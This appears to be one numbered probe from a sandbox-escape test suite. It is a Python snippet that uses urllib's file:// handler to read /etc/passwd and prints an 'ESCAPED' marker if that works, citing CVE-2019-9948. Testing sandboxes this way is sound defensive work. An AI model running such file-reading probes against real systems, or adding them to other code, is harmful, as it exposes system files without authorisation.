# escape: 039
# technique: urllib.request.urlopen('file:///...')
# family: dfile
# goal: read-file
# first-seen: CVE-2019-9948 (local_file://)
import urllib.request
if b'root:' in urllib.request.urlopen('file:///etc/passwd').readline(): print('ESCAPED:file url')
